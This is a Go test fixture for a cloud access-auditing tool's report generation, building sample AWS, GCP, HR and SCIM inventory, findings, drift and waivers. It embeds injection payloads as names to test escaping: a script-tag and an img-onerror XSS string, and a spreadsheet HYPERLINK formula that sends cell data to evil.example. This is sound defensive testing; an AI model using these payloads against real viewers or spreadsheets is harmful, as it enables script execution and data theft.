package reports_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/provost-dev/provost/drift"
	"github.com/provost-dev/provost/finding"
	"github.com/provost-dev/provost/inventory"
	"github.com/provost-dev/provost/reports"
)

// Hostile names: each must reach every format as inert text.
const (
	hostileScript   = `<script>alert(1)</script>`
	hostileFormula  = `=HYPERLINK("http://evil.example/?x="&A1,"click me")`
	hostileQuotes   = `Dave "The Boss" O'Brien`
	hostileMarkdown = "Eve | **bold** _x_ [link](http://evil.example) `code`"
	hostileAccount  = `Prod "main" <img src=x onerror=alert(2)>`
)

func day(d int) time.Time { return time.Date(2025, 5, d, 0, 0, 0, 0, time.UTC) }

var (
	fixtureStart     = time.Date(2025, 6, 1, 2, 0, 0, 0, time.UTC)
	fixtureGenerated = time.Date(2025, 6, 1, 2, 10, 0, 0, time.UTC)
)

const (
	rootARN   = "arn:aws:iam::111111111111:root"
	aliceARN  = "arn:aws:iam::111111111111:user/alice"
	legacyARN = "arn:aws:iam::333333333333:user/legacy"
	deployARN = "arn:aws:iam::222222222222:role/deploy"
	ssoCarol  = "aws-sso:d-1:u-carol"
	mallory   = "gcp:user:mallory@corp.com"
	eveGmail  = "gcp:user:eve@gmail.com"
	ciSA      = "gcp:serviceAccount:ci@web.iam.gserviceaccount.com"
	scimEve   = "scim:okta:u5"
)

// fixtureSnapshot is the current snapshot: two AWS accounts seen whole and one partly, a GCP
// organization with a project, an HR file and a SCIM directory.
func fixtureSnapshot() *inventory.Snapshot {
	return &inventory.Snapshot{
		ID: "snap-2025-06-01", StartedAt: fixtureStart, FinishedAt: fixtureStart.Add(5 * time.Minute),
		ProvostVersion: "0.9.0", PolicyVersion: "bundled-2025.05",
		Coverage: []inventory.Coverage{
			{Source: "aws-org", Provider: inventory.ProviderAWS, Scope: "111111111111", Status: inventory.CoverageComplete},
			{Source: "aws-org", Provider: inventory.ProviderAWS, Scope: "222222222222", Status: inventory.CoverageComplete},
			{Source: "aws-org", Provider: inventory.ProviderAWS, Scope: "333333333333", Status: inventory.CoveragePartial,
				ErrorKind: inventory.ErrPermissionDenied, Error: "GenerateCredentialReport: access denied <b>x</b>"},
			{Source: "gcp", Provider: inventory.ProviderGCP, Scope: "organizations/1", Status: inventory.CoverageComplete},
			{Source: "gcp", Provider: inventory.ProviderGCP, Scope: "projects/web", Status: inventory.CoverageComplete},
			{Source: "hr", Provider: inventory.ProviderHR, Scope: "file:hr.csv", Status: inventory.CoverageComplete},
			{Source: "okta", Provider: inventory.ProviderSCIM, Scope: "scim:okta", Status: inventory.CoverageComplete},
		},
		Accounts: []inventory.Account{
			{ID: "111111111111", Provider: inventory.ProviderAWS, Name: hostileAccount, Kind: "account", Path: []string{"Root", "Prod"}, Status: "ACTIVE"},
			{ID: "222222222222", Provider: inventory.ProviderAWS, Name: "Dev", Kind: "account", Status: "ACTIVE"},
			{ID: "333333333333", Provider: inventory.ProviderAWS, Name: "Sandbox", Kind: "account", Status: "ACTIVE"},
			{ID: "organizations/1", Provider: inventory.ProviderGCP, Name: "corp.com", Kind: "organization"},
			{ID: "projects/web", Provider: inventory.ProviderGCP, Name: "Web", Kind: "project", Parent: "organizations/1"},
		},
		PolicyDocs: []inventory.PolicyDoc{
			{ID: "arn:aws:iam::aws:policy/AdministratorAccess", Provider: inventory.ProviderAWS, Name: "AdministratorAccess", Kind: "aws_managed", Privilege: inventory.PrivilegeAdmin},
			{ID: "arn:aws:sso:::permissionSet/ssoins-1/ps-admin", Provider: inventory.ProviderAWS, Name: "AdministratorAccess", Kind: "permission_set", Privilege: inventory.PrivilegeAdmin},
			{ID: "roles/owner", Provider: inventory.ProviderGCP, Name: "Owner", Kind: "gcp_role", Privilege: inventory.PrivilegeAdmin},
			{ID: "roles/viewer", Provider: inventory.ProviderGCP, Name: "Viewer", Kind: "gcp_role", Privilege: inventory.PrivilegeRead},
		},
		People: []inventory.Person{
			{ID: "hr:1", Source: "hr", EmployeeID: "1", Emails: []string{"alice@corp.com"}, Name: "Alice Ng", Title: "SRE", Department: "Platform", Manager: "4", Status: inventory.PersonActive},
			{ID: "hr:2", Source: "hr", EmployeeID: "2", Emails: []string{"mallory@corp.com"}, Name: hostileScript, Title: "Analyst", Manager: "4", Status: inventory.PersonTerminated, EndDate: day(20)},
			{ID: "hr:3", Source: "hr", EmployeeID: "3", Emails: []string{"carol@corp.com"}, Name: hostileFormula, Title: "Engineer", Manager: "dave@corp.com", Status: inventory.PersonActive},
			{ID: "hr:4", Source: "hr", EmployeeID: "4", Emails: []string{"dave@corp.com"}, Name: hostileQuotes, Title: "Head of Platform", Status: inventory.PersonActive},
			{ID: "okta:5", Source: "okta", Emails: []string{"eve@corp.com"}, Name: hostileMarkdown, Status: inventory.PersonActive},
			{ID: "hr:6", Source: "hr", EmployeeID: "6", Emails: []string{"frank@corp.com"}, Name: "Frank", Manager: "4", Status: inventory.PersonTerminated, EndDate: day(1)},
		},
		Principals: []inventory.Principal{
			{ID: rootARN, Provider: inventory.ProviderAWS, Account: "111111111111", Kind: inventory.KindRoot, Name: "<root_account>", Console: true,
				Credentials: []inventory.Credential{{Kind: inventory.CredAccessKey, ID: "access_key_1", Status: "active", CreatedAt: day(1).AddDate(-2, 0, 0)}}},
			{ID: aliceARN, Provider: inventory.ProviderAWS, Account: "111111111111", Kind: inventory.KindUser, Name: "alice", Console: true,
				LastActivity: day(30), CreatedAt: day(1).AddDate(-1, 0, 0), PersonID: "hr:1", LinkRule: "email",
				Credentials: []inventory.Credential{{Kind: inventory.CredAccessKey, ID: "access_key_1", Status: "active", CreatedAt: day(1).AddDate(-1, 0, 0), LastUsed: day(29)}},
				Grants:      []inventory.Grant{{What: "arn:aws:iam::aws:policy/AdministratorAccess", Where: "111111111111", Via: "direct", Privilege: inventory.PrivilegeAdmin}}},
			{ID: legacyARN, Provider: inventory.ProviderAWS, Account: "333333333333", Kind: inventory.KindUser, Name: "legacy", CreatedAt: day(28)},
			{ID: deployARN, Provider: inventory.ProviderAWS, Account: "222222222222", Kind: inventory.KindRole, Name: "deploy"},
			{ID: ssoCarol, Provider: inventory.ProviderAWS, Account: "111111111111", Kind: inventory.KindSSOUser, Name: "carol@corp.com", Email: "carol@corp.com", MFA: true,
				PersonID: "hr:3", LinkRule: "email",
				Grants: []inventory.Grant{{What: "arn:aws:sso:::permissionSet/ssoins-1/ps-admin", Where: "222222222222", Via: "direct", Privilege: inventory.PrivilegeAdmin}}},
			{ID: mallory, Provider: inventory.ProviderGCP, Account: "organizations/1", Kind: inventory.KindUser, Name: "mallory@corp.com", Email: "mallory@corp.com",
				PersonID: "hr:2", LinkRule: "email", LastActivity: day(25),
				Grants: []inventory.Grant{
					{What: "roles/owner", Where: "projects/web", Via: "direct", Privilege: inventory.PrivilegeAdmin},
					{What: "roles/viewer", Where: "organizations/1", Via: "direct", Privilege: inventory.PrivilegeRead},
					{What: "roles/viewer", Where: "projects/web", Via: "inherited:organizations/1", Privilege: inventory.PrivilegeRead},
				}},
			{ID: eveGmail, Provider: inventory.ProviderGCP, Account: "organizations/1", Kind: inventory.KindUser, Name: "eve@gmail.com", Email: "eve@gmail.com",
				Grants: []inventory.Grant{{What: "roles/viewer", Where: "projects/web", Via: "direct", Privilege: inventory.PrivilegeRead}}},
			{ID: ciSA, Provider: inventory.ProviderGCP, Account: "projects/web", Kind: inventory.KindServiceAccount, Name: "ci@web.iam.gserviceaccount.com",
				PersonID: "hr:4", LinkRule: "tag:owner",
				Credentials: []inventory.Credential{{Kind: inventory.CredSAKey, ID: "k-0123", Status: "active", Managed: "user", CreatedAt: day(1).AddDate(0, -8, 0)}},
				Grants:      []inventory.Grant{{What: "roles/owner", Where: "projects/web", Via: "direct", Privilege: inventory.PrivilegeAdmin}}},
			{ID: scimEve, Provider: inventory.ProviderSCIM, Account: "scim:okta", Kind: inventory.KindUser, Name: hostileMarkdown, PersonID: "okta:5", LinkRule: "external_id"},
		},
	}
}

var frameworksOf = map[string][]string{
	"PV-AWS-001":    {"CIS-AWS-1.4", "HIPAA-164.312(a)(1)", "SOC2-CC6.1"},
	"PV-AWS-002":    {"CIS-AWS-1.5", "HIPAA-164.312(d)", "SOC2-CC6.1"},
	"PV-AWS-003":    {"CIS-AWS-1.7", "SOC2-CC6.1", "HIPAA-164.308(a)(4)(ii)(B)"},
	"PV-AWS-004":    {"CIS-AWS-1.10", "HIPAA-164.312(d)", "SOC2-CC6.1"},
	"PV-AWS-006":    {"CIS-AWS-1.12", "HIPAA-164.308(a)(3)(ii)(B)", "SOC2-CC6.2"},
	"PV-AWS-007":    {"CIS-AWS-1.14", "HIPAA-164.308(a)(5)(ii)(D)", "SOC2-CC6.1"},
	"PV-AWS-010":    {"CIS-AWS-1.15", "SOC2-CC6.3"},
	"PV-AWS-011":    {"CIS-AWS-1.16", "HIPAA-164.308(a)(4)(ii)(B)", "SOC2-CC6.3"},
	"PV-AWS-014":    {"CIS-AWS-1.15", "SOC2-CC6.3", "HIPAA-164.308(a)(4)(ii)(C)"},
	"PV-GCP-001":    {"CIS-GCP-1.1", "HIPAA-164.312(a)(2)(i)", "SOC2-CC6.2"},
	"PV-GCP-003":    {"CIS-GCP-1.4", "SOC2-CC6.1"},
	"PV-GCP-009":    {"CIS-GCP-1.7", "SOC2-CC6.2"},
	"PV-IDN-002":    {"HIPAA-164.308(a)(3)(ii)(C)", "SOC2-CC6.2", "SOC2-CC6.3"},
	"PV-IDN-003":    {"HIPAA-164.312(a)(2)(i)", "HIPAA-164.308(a)(3)(ii)(B)", "SOC2-CC6.2"},
	"PV-IDN-004":    {"HIPAA-164.312(a)(2)(i)", "SOC2-CC6.1"},
	"PV-CUSTOM-001": {"SOC2-CC6.1"},
}

var fixtureChecks = []reports.Check{
	{ID: "PV-AWS-001", Title: "Root user has an access key", Severity: finding.SeverityCritical,
		Remediation: finding.Remediation{Action: "deactivate_access_key", Text: "Deactivate, then delete, the root user's access keys."}},
	{ID: "PV-AWS-002", Title: "Root user without MFA", Severity: finding.SeverityCritical,
		Remediation: finding.Remediation{Action: "enable_mfa", Text: "Enable a hardware MFA device on the root user."}},
	{ID: "PV-AWS-003", Title: "Root user used recently", Severity: finding.SeverityHigh},
	{ID: "PV-AWS-004", Title: "Console user without MFA", Severity: finding.SeverityHigh,
		Remediation: finding.Remediation{Action: "require_mfa", Text: "Require MFA for console sign-in."}},
	{ID: "PV-AWS-006", Title: "Access key unused", Severity: finding.SeverityMedium},
	{ID: "PV-AWS-007", Title: "Access key not rotated", Severity: finding.SeverityMedium},
	{ID: "PV-AWS-010", Title: "IAM user in no group", Severity: finding.SeverityLow},
	{ID: "PV-AWS-011", Title: "User or role can reach administrator", Severity: finding.SeverityHigh},
	{ID: "PV-AWS-014", Title: "Admin permission set assigned to an individual", Severity: finding.SeverityMedium},
	{ID: "PV-CUSTOM-001", Title: "Custom check <b>bold</b>", Severity: finding.SeverityLow},
	{ID: "PV-GCP-001", Title: "Personal account in IAM bindings", Severity: finding.SeverityHigh},
	{ID: "PV-GCP-003", Title: "User-managed service account key", Severity: finding.SeverityMedium},
	{ID: "PV-GCP-009", Title: "Unused service account key", Severity: finding.SeverityMedium},
	{ID: "PV-IDN-002", Title: "Leaver still has access", Severity: finding.SeverityCritical,
		Remediation: finding.Remediation{Action: "disable_principal", Text: "Disable the account, then remove its grants."}},
	{ID: "PV-IDN-003", Title: "Human account with no owner", Severity: finding.SeverityMedium},
	{ID: "PV-IDN-004", Title: "Shared or generic account", Severity: finding.SeverityMedium},
}

func init() {
	for i := range fixtureChecks {
		fixtureChecks[i].Frameworks = frameworksOf[fixtureChecks[i].ID]
	}
}

// mk builds a finding of a catalogue check.
func mk(check, principal, account string, provider inventory.Provider, qualifier, msg string, status finding.Status, first time.Time) finding.Finding {
	var c reports.Check
	for _, x := range fixtureChecks {
		if x.ID == check {
			c = x
		}
	}
	f := finding.Finding{
		ID: finding.ID(check, principal, qualifier), CheckID: check, Title: c.Title, Severity: c.Severity, Frameworks: c.Frameworks,
		Principal: principal, Account: account, Provider: provider, Qualifier: qualifier, Message: msg, Remediation: c.Remediation,
		Status: status, FirstSeen: first, LastSeen: fixtureStart,
	}
	if status == finding.StatusResolved {
		f.LastSeen, f.ResolvedAt = day(31), fixtureStart
	}
	return f
}

func fixtureFindings() []finding.Finding {
	aws, gcp := inventory.ProviderAWS, inventory.ProviderGCP
	fs := []finding.Finding{
		mk("PV-AWS-001", rootARN, "111111111111", aws, "access_key_1", "root user of account 111111111111 has an active access key (access_key_1)", finding.StatusOpen, day(1).AddDate(0, -3, 0)),
		mk("PV-AWS-002", rootARN, "111111111111", aws, "", "root user of account 111111111111 has no MFA device", finding.StatusOpen, fixtureStart),
		mk("PV-AWS-004", aliceARN, "111111111111", aws, "", "alice signs in to the console without MFA", finding.StatusOpen, day(10)),
		mk("PV-AWS-011", aliceARN, "111111111111", aws, "", "alice holds AdministratorAccess directly", finding.StatusWaived, day(2)),
		mk("PV-AWS-007", aliceARN, "111111111111", aws, "access_key_1", "access_key_1 of alice is 365 days old", finding.StatusResolved, day(1).AddDate(0, -1, 0)),
		mk("PV-AWS-010", aliceARN, "111111111111", aws, "", "alice is in no IAM group", finding.StatusOpen, day(3)),
		mk("PV-IDN-002", mallory, "organizations/1", gcp, "", hostileScript+" left on 2025-05-20 but mallory@corp.com still holds roles/owner on projects/web", finding.StatusOpen, day(21)),
		mk("PV-AWS-014", ssoCarol, "111111111111", aws, "", "permission set AdministratorAccess is assigned to "+hostileFormula+" directly in 222222222222", finding.StatusOpen, day(30)),
		mk("PV-GCP-003", ciSA, "projects/web", gcp, "k-0123", "service account ci@web.iam.gserviceaccount.com has a user-managed key k-0123", finding.StatusOpen, day(5)),
		mk("PV-GCP-001", eveGmail, "organizations/1", gcp, "", "personal account eve@gmail.com holds roles/viewer on projects/web", finding.StatusOpen, day(31)),
		mk("PV-AWS-006", legacyARN, "333333333333", aws, "access_key_1", "cannot evaluate: coverage of 333333333333 is partial", finding.StatusCannotEvaluate, day(28)),
		mk("PV-IDN-003", legacyARN, "333333333333", aws, "", "human account legacy has no owner", finding.StatusOpen, day(28)),
		mk("PV-IDN-004", scimEve, "scim:okta", inventory.ProviderSCIM, "", "account "+hostileMarkdown+" looks shared", finding.StatusOpen, day(15)),
		{ID: finding.ID("PV-CUSTOM-001", "", ""), CheckID: "PV-CUSTOM-001", Title: "Custom check <b>bold</b>", Severity: finding.SeverityLow,
			Message: "rego_type_error: undefined function lib.nope (policies/custom.rego:12)", Status: finding.StatusError, FirstSeen: fixtureStart, LastSeen: fixtureStart},
		{ID: finding.ID(finding.CheckWaiverExpired, "", "PV-GCP-001 gcp:user:*@gmail.com"), CheckID: finding.CheckWaiverExpired, Title: "Waiver expired",
			Severity: finding.SeverityLow, Qualifier: "PV-GCP-001 gcp:user:*@gmail.com",
			Message:  `waiver for PV-GCP-001 on gcp:user:*@gmail.com (owner "Sec" <ops@corp.com>) expired at 2025-05-15T00:00:00Z; it matches 1 finding(s)`,
			Evidence: map[string]any{"owner": `"Sec" <ops@corp.com>`, "findings_matched": 1},
			Status:   finding.StatusOpen, FirstSeen: day(15), LastSeen: fixtureStart},
	}
	for i := range fs {
		switch fs[i].CheckID {
		case "PV-AWS-004":
			fs[i].Evidence = map[string]any{"console": true, "mfa": false, "name": "<i>alice</i>"}
		case "PV-IDN-002":
			fs[i].Evidence = map[string]any{"person": "hr:2", "person_name": hostileScript, "end_date": "2025-05-20", "grants": []any{"roles/owner"}}
		case "PV-AWS-011":
			fs[i].WaivedBy, fs[i].WaiverReason, fs[i].WaiverExpires = "sec-team", "break-glass admin until the SSO migration", time.Date(2025, 6, 10, 0, 0, 0, 0, time.UTC)
		}
	}
	return fs
}

func fixtureDrift() []drift.Event {
	return []drift.Event{
		{Kind: drift.CoverageChanged, Source: "aws-org", Scope: "333333333333", Before: "complete", After: "partial",
			Message: "coverage of 333333333333 went from complete to partial (permission_denied)"},
		{Kind: drift.PrincipalAdded, Principal: eveGmail, PrincipalKind: inventory.KindUser, Name: "eve@gmail.com", Account: "organizations/1", Provider: inventory.ProviderGCP,
			Message: "gcp:user:eve@gmail.com was added"},
		{Kind: drift.GrantAdded, Principal: ssoCarol, PrincipalKind: inventory.KindSSOUser, Name: hostileFormula, Account: "111111111111", Provider: inventory.ProviderAWS,
			Person: "hr:3", Scope: "222222222222", Escalation: true, Before: "read", After: "admin",
			Grant:   &inventory.Grant{What: "arn:aws:sso:::permissionSet/ssoins-1/ps-admin", Where: "222222222222", Via: "direct", Privilege: inventory.PrivilegeAdmin},
			Message: "carol@corp.com was granted AdministratorAccess on 222222222222 (read → admin)"},
		{Kind: drift.PersonStatusChanged, Person: "hr:2", Name: hostileScript, Source: "hr", Field: "status", Before: "active", After: "terminated",
			Message: "person " + hostileScript + " (hr:2) changed status from active to terminated"},
	}
}

func fixtureWaivers() []reports.Waiver {
	return []reports.Waiver{
		{Check: "PV-AWS-011", Principal: aliceARN, Reason: "break-glass admin until the SSO migration", Owner: "sec-team",
			Expires: time.Date(2025, 6, 10, 0, 0, 0, 0, time.UTC), Matches: 1, Source: "waivers.toml:1"},
		{Check: "PV-GCP-001", Principal: "gcp:user:*@gmail.com", Reason: "contractors | temporary =SUM(A1)", Owner: `"Sec" <ops@corp.com>`,
			Expires: day(15), Expired: true, Matches: 1, Source: "waivers.toml:8"},
		{Check: "PV-AWS-008", Principal: "arn:aws:iam::222222222222:user/*", Reason: "CI keys rotate weekly", Owner: "platform",
			Expires: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), Source: "waivers.toml:15"},
	}
}

// fixtureHistory returns the retained snapshots before the current one: on May 10 mallory
// (hr:2) is active and Frank (hr:6), already terminated, still has an AWS user; on May 25
// mallory is terminated with access and Frank's user is gone.
func fixtureHistory() []*inventory.Snapshot {
	cur := fixtureSnapshot()
	at := func(d int) *inventory.Snapshot {
		s := fixtureSnapshot()
		s.ID = fmt.Sprintf("snap-2025-05-%02d", d)
		s.StartedAt, s.FinishedAt = day(d).Add(2*time.Hour), day(d).Add(2*time.Hour+5*time.Minute)
		s.Coverage = cur.Coverage[:2:2] // the AWS accounts seen whole
		s.Coverage = append(s.Coverage, cur.Coverage[3:]...)
		return s
	}
	may10 := at(10)
	may10.People[1].Status, may10.People[1].EndDate = inventory.PersonActive, time.Time{}
	may10.Principals = append(may10.Principals, inventory.Principal{ID: "arn:aws:iam::222222222222:user/frank", Provider: inventory.ProviderAWS,
		Account: "222222222222", Kind: inventory.KindUser, Name: "frank", PersonID: "hr:6", LinkRule: "email"})
	may10.Principals = slicesDelete(may10.Principals, eveGmail, legacyARN)
	may25 := at(25)
	may25.Principals = slicesDelete(may25.Principals, eveGmail)
	return []*inventory.Snapshot{may10, may25}
}

func slicesDelete(ps []inventory.Principal, ids ...string) []inventory.Principal {
	out := ps[:0:0]
	for _, p := range ps {
		keep := true
		for _, id := range ids {
			if p.ID == id {
				keep = false
			}
		}
		if keep {
			out = append(out, p)
		}
	}
	return out
}

// fixtureReport is the report every golden file renders.
func fixtureReport(t testing.TB) *reports.Report {
	t.Helper()
	snap := fixtureSnapshot()
	fs := fixtureFindings()
	r, err := reports.FromSnapshot(snap, fs, fixtureGenerated)
	if err != nil {
		t.Fatal(err)
	}
	r.Title = "Acme Health <Prod> & \"Friends\""
	r.Previous = reports.SnapshotMeta{ID: "snap-2025-05-31", StartedAt: day(31).Add(2 * time.Hour)}
	r.Drift = fixtureDrift()
	r.Waivers = fixtureWaivers()
	r.Checks = fixtureChecks
	history := fixtureHistory()
	for i, h := range history {
		r.History = append(r.History, reports.HistoryPoint{Snapshot: h.ID, At: h.StartedAt,
			Open: reports.SeverityCounts{Critical: 3 - i, High: 3, Medium: 4 + i, Low: 2}, Principals: 9, Score: 48.9 + float64(i)})
	}
	r.History = append(r.History, reports.NewHistoryPoint(snap.ID, snap.StartedAt, fs, len(snap.Principals)))
	kpis := reports.ComputeKPIs(append(history, snap), reports.LifecycleOptions{SLA: 24 * time.Hour})
	r.KPIs = &kpis
	r.Review = reports.BuildReview(snap, fs, fixtureGenerated)
	r.ReviewLink = "acme.review.html"
	return r
}
